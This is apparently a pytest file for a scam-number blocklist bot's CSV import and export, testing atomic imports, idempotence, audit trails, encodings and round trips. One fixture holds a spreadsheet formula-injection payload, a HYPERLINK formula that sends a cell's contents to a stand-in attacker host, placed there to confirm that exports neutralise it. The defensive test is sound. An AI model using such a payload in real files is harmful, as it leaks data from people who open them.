"""CSV import/export on SQLite and PostgreSQL: all-or-nothing, idempotent, round trip, preview."""

from __future__ import annotations

import csv
import hashlib
import io
from dataclasses import fields

import pytest

from bot.store import CsvError

GOOD = """number,category,evidence,expires
138-0013-8000,冒充公检法,"自称公安局, 要求转账",2030-06-30
+86 139 0013 9000,loan_credit,,
170*,断卡,虚拟运营商号段,
95001,冒充客服,假退款,
"""


def _snapshot(store) -> tuple[str, int]:
    return store.export_blocklist_csv(), len(store.audit_log(limit=100_000))


def test_import_adds_rows_with_audit(store):
    result = store.import_blocklist_csv(GOOD, actor="cli")
    assert (result.added, result.updated, result.unchanged) == (4, 0, 0)
    assert store.lookup("+8613800138000").evidence == "自称公安局, 要求转账"
    assert store.lookup("+8617055556666").category == "card_trafficking"
    assert store.lookup("95001").source == "import"
    assert [h.action for h in store.history("13900139000")] == ["blocklist.add"]


def test_an_import_is_one_audit_row_and_each_added_number_is_traceable_to_it(store):
    """The audit rule: one row per import (actor, file fingerprint, counts, added keys), none per added number."""
    audit_before = len(store.audit_log(limit=100_000))
    result = store.import_blocklist_csv(GOOD.encode(), actor="tg:2000")
    audit = store.audit_log(limit=100_000)  # newest first
    [batch] = audit[: len(audit) - audit_before]
    assert (batch.id, batch.actor, batch.action, batch.target) == (
        result.import_id, "tg:2000", "blocklist.import", "blocklist:import")
    assert batch.after["file_sha256"] == hashlib.sha256(GOOD.encode()).hexdigest()
    assert {k: batch.after[k] for k in ("rows", "added", "updated", "unchanged")} == {
        "rows": 4, "added": 4, "updated": 0, "unchanged": 0}
    assert sorted(batch.after["added_keys"]) == ["+8613800138000", "+8613900139000", "+86170*", "95001"]
    assert store.import_batch(result.import_id).after == batch.after
    assert store.audit_log(target="blocklist:+8613900139000") == []  # no per-number row for an add
    # ... yet the number's history says it was added by that import, by whom, when, with what.
    [added] = store.history("+86 139 0013 9000")
    assert (added.action, added.actor, added.at, added.before) == ("blocklist.add", "tg:2000", batch.at, None)
    assert added.after["import_id"] == result.import_id
    assert added.after["file_sha256"] == batch.after["file_sha256"]
    assert (added.after["category"], added.after["source"]) == ("loan_credit", "import")
    [prefix] = store.history("+86170", prefix=True)
    assert prefix.after["import_id"] == result.import_id
    assert store.lookup("+8613900139000").import_batch_id == result.import_id


def test_an_import_that_changes_an_entry_audits_that_entry_with_before_and_after(store):
    first = store.import_blocklist_csv(GOOD, actor="cli")
    store.add_blocklist("+8613900139000", "loan_credit", actor="tg:7", evidence="moderator note")
    changed = GOOD.replace("假退款,", "假退款，要求共享屏幕,") + "+8613300133000,other,,\n"
    second = store.import_blocklist_csv(changed, actor="tg:8")
    assert (second.added, second.updated, second.unchanged) == (1, 2, 2)
    assert second.import_id != first.import_id
    batch = store.import_batch(second.import_id)
    assert batch.after["added_keys"] == ["+8613300133000"] and batch.after["updated"] == 2
    history = store.history("95001")
    assert [(h.action, h.actor) for h in history] == [("blocklist.add", "cli"), ("blocklist.update", "tg:8")]
    update = history[1]
    assert update.before["evidence"] == "假退款" and update.after["evidence"] == "假退款，要求共享屏幕"
    assert update.after["import_id"] == second.import_id
    # The import-time state is told as it was, though the entry changed since.
    assert history[0].after["evidence"] == "假退款"
    moderated = store.history("+8613900139000")
    assert [(h.action, h.actor) for h in moderated] == [
        ("blocklist.add", "cli"), ("blocklist.update", "tg:7"), ("blocklist.update", "tg:8")]
    assert moderated[0].after["evidence"] == ""  # as imported, before the moderator's note
    assert (moderated[2].before["evidence"], moderated[2].after["evidence"]) == ("moderator note", "")


def test_reimporting_the_same_file_changes_nothing(store):
    store.import_blocklist_csv(GOOD)
    before = _snapshot(store)
    result = store.import_blocklist_csv(GOOD)
    assert (result.added, result.updated, result.unchanged) == (0, 0, 4)
    assert _snapshot(store) == before


def test_changed_rows_are_updated(store):
    store.import_blocklist_csv(GOOD)
    changed = GOOD.replace("假退款", "假退款，要求共享屏幕")
    result = store.import_blocklist_csv(changed)
    assert (result.added, result.updated, result.unchanged) == (0, 1, 3)
    assert store.lookup("95001").evidence == "假退款，要求共享屏幕"
    assert [h.action for h in store.history("95001")] == ["blocklist.add", "blocklist.update"]


@pytest.mark.parametrize(("bad_line", "reason"), [
    ("13800,other,,", "bad number"),
    ("+8613700137000,no-such-category,,", "unknown category"),
    ("+8613700137000,other", "wrong column count"),
    ("+8613700137000,other,,2030-13-45", "bad date"),
    ("+8613900139000,other,,", "already on line 3"),
])
def test_one_bad_row_aborts_the_whole_import(store, bad_line, reason):
    store.add_blocklist("+8613600136000", "other", actor=1, evidence="before the import")
    before = _snapshot(store)
    lines = GOOD.splitlines()
    lines.insert(4, bad_line)  # becomes line 5 as an editor shows it
    with pytest.raises(CsvError) as caught:
        store.import_blocklist_csv("\n".join(lines) + "\n")
    assert [e.line for e in caught.value.errors] == [5]
    assert reason in caught.value.errors[0].reason
    assert str(caught.value).startswith("line 5: ")
    assert _snapshot(store) == before


def test_line_numbers_count_quoted_newlines_and_blank_lines(store):
    text = 'number,category,evidence\n\n+8613800138000,other,"two\nlines"\n+8613,other,x\n'
    with pytest.raises(CsvError) as caught:
        store.import_blocklist_csv(text)
    assert [e.line for e in caught.value.errors] == [5]


def test_a_gbk_file_saved_by_excel_on_windows_imports(store, tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes(GOOD.replace("\n", "\r\n").encode("gbk"))
    assert store.import_blocklist_csv(path).added == 4
    assert store.lookup("+8613800138000").evidence == "自称公安局, 要求转账"
    assert store.lookup("+8617055556666").category == "card_trafficking"


def test_a_file_in_no_known_encoding_is_refused_at_its_line(store, tmp_path):
    path = tmp_path / "binary.csv"
    path.write_bytes(b"number,category\n+8613800138000,other\n\x80\x80\xff,other\n")
    with pytest.raises(CsvError) as caught:
        store.import_blocklist_csv(path)
    assert caught.value.errors[0].line == 3
    assert "UTF-8" in caught.value.errors[0].reason
    assert store.lookup("+8613800138000") is None


def test_a_200_kb_cell_is_reported_at_its_own_line_and_nothing_is_imported(store):
    text = ('number,category,evidence\n+8613800138000,other,ok\n\n'
            f'+8613900139000,other,"{"长" * 200_000}"\n+8613700137000,other,x\n')
    with pytest.raises(CsvError) as caught:
        store.import_blocklist_csv(text)
    assert [e.line for e in caught.value.errors] == [4]
    assert str(caught.value).startswith("line 4: a cell longer than")
    assert caught.value.errors[0].text("zh-Hans").startswith("第 4 行：有一格超过")
    assert store.lookup("+8613800138000") is None


def test_header_is_required(store):
    with pytest.raises(CsvError, match="line 1: unknown column"):
        store.import_blocklist_csv("+8613800138000,other\n")
    with pytest.raises(CsvError, match="line 1: empty file"):
        store.import_blocklist_csv("")


def test_utf8_bom_from_excel_is_accepted(store, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("number,category\n+8613800138000,冒充公检法\n".encode("utf-8-sig"))
    assert store.import_blocklist_csv(path).added == 1


def test_export_then_import_round_trip(store, db_url, tmp_path):
    store.import_blocklist_csv(GOOD)
    store.add_blocklist("+8613500135000", "other", actor=1)
    store.remove_blocklist("+8613500135000", actor=1)  # removed entries are not exported
    exported = store.export_blocklist_csv()
    assert exported.splitlines()[0] == "number,category,evidence,expires"
    assert "'+86170*,card_trafficking,虚拟运营商号段," in exported
    assert "2030-06-30" in exported
    assert "+8613500135000" not in exported
    # Into the same store: nothing changes.
    assert store.import_blocklist_csv(exported).unchanged == 4
    # Into a fresh store: the same export comes out.
    from bot.store import Store

    other_url = f"sqlite:///{tmp_path / 'other.db'}"
    with Store.open(other_url) as other:
        assert other.import_blocklist_csv(exported).added == 4
        assert other.export_blocklist_csv() == exported


# Cells a spreadsheet would run as formulas (=, +, -, @ first), and one that starts with a quote already.
FORMULAS = {
    "+8613800138000": '=HYPERLINK("http://evil.example/?"&A1,"查看证据")',
    "+8613900139000": "+1 自称客服，要求转账",
    "+8613700137000": "-2+3",
    "+8613600136000": "@所有人 兼职刷单",
    "+8613500135000": "'=写在引号后面",
}


def _cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]


def _formula_cells(exported: str) -> list[str]:
    return [cell for cell in _cells(exported) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_is_safe_in_a_spreadsheet_and_imports_back_as_the_same_data(store):
    for number, evidence in FORMULAS.items():
        store.add_blocklist(number, "other", actor=1, evidence=evidence)
    store.add_blocklist("+86170", "断卡", actor=1, evidence="虚拟运营商号段", prefix=True)
    exported = store.export_blocklist_csv()
    assert _formula_cells(exported) == []
    cells = _cells(exported)
    assert "'+8613800138000" in cells and "'+86170*" in cells  # text in a spreadsheet, not 8.6138E+12
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"查看证据\")" in cells
    # Every entry taken off, then the export imported: the same entries, word for word.
    for number in FORMULAS:
        store.remove_blocklist(number, actor=1)
    store.remove_blocklist("+86170", actor=1, prefix=True)
    assert store.import_blocklist_csv(exported).added == 6
    assert {number: store.lookup(number).evidence for number in FORMULAS} == FORMULAS
    assert store.lookup("+8617012345678").category == "card_trafficking"
    assert store.export_blocklist_csv() == exported


def test_allowlist_export_is_safe_in_a_spreadsheet_and_imports_back(store):
    store.add_allowlist("4008-123-123", "=示例公司", actor=1, aliases=["@示例", "-Example"],
                        owner_category="+company")
    exported = store.export_allowlist_csv()
    assert _formula_cells(exported) == []
    assert "'+864008123123,'=示例公司,'@示例|-Example,'+company" in exported.splitlines()
    store.remove_allowlist("4008123123", actor=1)
    assert store.import_allowlist_csv(exported).added == 1
    entry = store.get_allowlist("+864008123123")
    assert (entry.owner, entry.aliases, entry.owner_category) == ("=示例公司", ["@示例", "-Example"], "+company")
    assert store.export_allowlist_csv() == exported


def test_preview_reports_without_writing(store):
    store.import_blocklist_csv(GOOD)
    before = _snapshot(store)
    text = GOOD.replace("假退款", "改了") + "+8613300133000,other,,\n"
    preview = store.preview_blocklist_csv(text)
    assert preview.ok
    assert [r.number_key for r in preview.to_add] == ["+8613300133000"]
    assert [(r.number_key, old["evidence"]) for r, old in preview.to_update] == [("95001", "假退款")]
    assert preview.unchanged == 3
    bad = store.preview_blocklist_csv(text + "oops,other,,\n+8613300133001,nope,,\n")
    assert not bad.ok and [e.line for e in bad.errors] == [7, 8]
    assert _snapshot(store) == before


def test_import_reactivates_removed_entries(store):
    store.import_blocklist_csv(GOOD)
    store.remove_blocklist("95001", actor=1, reason="mistake")
    result = store.import_blocklist_csv(GOOD, actor="cli")
    assert (result.added, result.unchanged) == (1, 3)
    assert store.lookup("95001") is not None
    # Bringing a removed entry back changes an existing row: it has its own before/after audit row.
    back = store.history("95001")[-1]
    assert (back.action, back.before["active"], back.after["active"]) == ("blocklist.add", False, True)
    assert store.import_batch(result.import_id).after["added_keys"] == []


def test_optional_columns_left_out_keep_stored_values(store):
    store.import_blocklist_csv(GOOD)
    result = store.import_blocklist_csv("number,category\n+8613800138000,冒充公检法\n")
    assert result.unchanged == 1
    entry = store.lookup("+8613800138000")
    assert entry.evidence == "自称公安局, 要求转账" and entry.expires_at is not None


ALLOW = """number,owner,aliases,category_of_owner
95588,中国工商银行,工行|工商银行|中国工商银行|ICBC,bank
4008-123-123,示例公司,示例|Example,company
"""


def test_allowlist_import_is_idempotent_and_all_or_nothing(store):
    result = store.import_allowlist_csv(ALLOW)
    assert (result.added, result.updated, result.unchanged) == (1, 0, 1)  # 95588 is in the seed already
    assert store.get_allowlist("+864008123123").aliases == ["示例", "Example"]
    again = store.import_allowlist_csv(ALLOW)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    before = store.export_allowlist_csv()
    with pytest.raises(CsvError, match="line 3: empty owner"):
        store.import_allowlist_csv(ALLOW.replace("示例公司", "") + "95599,中国农业银行,农行,bank\n")
    assert store.export_allowlist_csv() == before


def test_allowlist_export_round_trip(store, tmp_path):
    from bot.store import Store

    store.import_allowlist_csv(ALLOW)
    exported = store.export_allowlist_csv()
    with Store.open(f"sqlite:///{tmp_path / 'x.db'}", allowlist_seed=None) as other:
        other.import_allowlist_csv(exported)
        assert other.export_allowlist_csv() == exported


def test_big_import_takes_the_bulk_path_and_reads_back_like_small_ones(store):
    """1,500 rows go through COPY / raw executemany; entries, expiry and audit must look the same."""
    lines = ["number,category,evidence,expires"]
    lines += [f"+86139{i:08d},冒充客服,第{i}条,2030-01-0{1 + i % 9}" for i in range(1500)]
    lines.append("+86 138 0013 8000,other,,")
    text = "\n".join(lines) + "\n"
    result = store.import_blocklist_csv(text, actor="bulk-test")
    assert (result.added, result.updated, result.unchanged) == (1501, 0, 0)
    entry = store.lookup("+8613900000007")
    assert (entry.category, entry.evidence, entry.source, entry.added_by) == (
        "fake_customer_service", "第7条", "import", "bulk-test")
    assert entry.expires_at.isoformat() == "2030-01-08T16:00:00+00:00"
    assert store.lookup("+8613800138000") is not None
    history = store.history("+8613900000007")
    assert [(h.action, h.actor, h.after["evidence"]) for h in history] == [("blocklist.add", "bulk-test", "第7条")]
    batch = store.import_batch(result.import_id)
    assert len(batch.after["added_keys"]) == 1501 and entry.import_batch_id == result.import_id
    assert entry.created_at == entry.updated_at == batch.at and entry.active is True
    # lookup's plain row and the ORM entry read the same values (times as aware UTC on both databases).
    stored = store.get_blocklist("+8613900000007")
    assert {f.name: getattr(entry, f.name) for f in fields(entry)} == {
        f.name: getattr(stored, f.name) for f in fields(entry)}
    assert store.export_blocklist_csv().count("\n") == 1502
    again = store.import_blocklist_csv(text)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 1501)
    store.add_blocklist("+8613900000008", "other", actor=1)
    assert [h.action for h in store.history("+8613900000008")] == ["blocklist.add", "blocklist.update"]
